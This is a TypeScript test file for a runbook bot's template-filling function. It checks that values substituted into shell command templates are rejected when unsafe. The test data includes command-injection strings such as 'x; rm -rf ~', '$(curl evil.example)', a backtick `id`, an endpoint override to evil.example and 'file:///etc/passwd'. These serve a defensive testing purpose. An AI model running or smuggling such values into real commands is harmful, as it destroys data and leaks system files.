import fc from 'fast-check';
import { expect, test } from 'vitest';
import { fillVariables } from '../../../bot/core/runbook/index.ts';

test('values take the place of their names, spaces around them or not', () => {
  const values = { region: 'eu-west-1', 'dimensions.LoadBalancer': 'app/checkout/50dc6c495c0c9188' };
  expect(fillVariables('a {{region}} b {{ dimensions.LoadBalancer }}', values)).toEqual({
    text: 'a eu-west-1 b app/checkout/50dc6c495c0c9188',
    unfilled: [],
  });
});

test('an absent value leaves the placeholder and is named once', () => {
  expect(fillVariables('{{account}} {{account}} {{region}}', { region: 'x', account: '' })).toEqual({
    text: '{{account}} {{account}} x',
    unfilled: [{ variable: 'account', reason: 'absent' }],
  });
});

test.each([
  ['x; rm -rf ~'],
  ['$(curl evil.example)'],
  ['`id`'],
  ['a b'],
  ['a\nb'],
  ['--endpoint-url=https://evil.example'],
  ['file:///etc/passwd'],
  ['<!channel>'],
  ['x'.repeat(513)],
])('the value %j is not put into an unquoted place', (value) => {
  expect(fillVariables('ls {{alarm.name}}', { 'alarm.name': value })).toEqual({
    text: 'ls {{alarm.name}}',
    unfilled: [{ variable: 'alarm.name', reason: 'unsafe' }],
  });
});

test('between quotes a name may hold spaces and letters of any language', () => {
  const name = 'Thanh toán: tỉ lệ 5xx (prod)';
  expect(fillVariables('--alarm-names "{{alarm.name}}"', { 'alarm.name': name }).text).toBe(
    `--alarm-names "${name}"`,
  );
  expect(fillVariables("[?name=='{{alarm.name}}']", { 'alarm.name': name }).text).toBe(`[?name=='${name}']`);
});

test.each([['a"b'], ["a'b"], ['a$b'], ['a`b'], ['a\\b'], ['a!b'], ['a\nb'], ['--x']])(
  'the value %j is not put between quotes',
  (value) => {
    expect(fillVariables('"{{alarm.name}}"', { 'alarm.name': value }).unfilled).toEqual([
      { variable: 'alarm.name', reason: 'unsafe' },
    ]);
  },
);

test('a value that looks like a placeholder is not filled a second time', () => {
  expect(fillVariables('{{region}}', { region: '{{account}}', account: '1' }).text).toBe('{{region}}');
});

const SHELL = 'ab -$`"\'\\!<>&;|*?~#()[]{}^%\n\r\0/.:é';

test.each([
  ['unquoted', 'x {{alarm.name}}', /^[^\s$`"'\\!<>&;|*?~#()[\]{}^%\0-][^\s$`"'\\!<>&;|*?~#()[\]{}^%\0]*$/],
  ['between quotes', 'x "{{alarm.name}}"', /^"[^$`"'\\!<>&\n\r\0-][^$`"'\\!<>&\n\r\0]*"$/],
])('whatever the value, nothing that a shell acts on gets in %s', (_name, template, harmless) => {
  const value = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom(...SHELL.split('')), maxLength: 6 }),
  );
  fc.assert(
    fc.property(value, (name) => {
      const { text, unfilled } = fillVariables(template, { 'alarm.name': name });
      expect(unfilled.length === 1 ? text === template : harmless.test(text.slice(2))).toBe(true);
    }),
  );
});
